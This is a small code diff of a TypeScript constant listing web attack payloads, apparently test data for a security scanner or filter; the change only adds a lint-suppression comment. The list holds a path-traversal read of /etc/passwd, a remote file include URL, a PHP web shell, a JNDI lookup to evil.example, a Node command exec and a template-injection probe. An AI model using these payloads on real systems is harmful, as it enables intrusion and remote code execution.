@@ -12,6 +12,7 @@ const ATTACKS: Readonly<Record<string, string>> = {
   lfi: '../../../../etc/passwd',
   rfi: 'http://203.0.113.7/shell.txt?',
   php_code_injection: '<?php system($_GET["c"]); ?>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the attack looks like
   java_code_injection: '${jndi:ldap://evil.example/a}',
   js_code_injection: 'require("child_process").exec("id")',
   template_injection: '{{7*7}}{{config.__class__.__init__.__globals__}}',
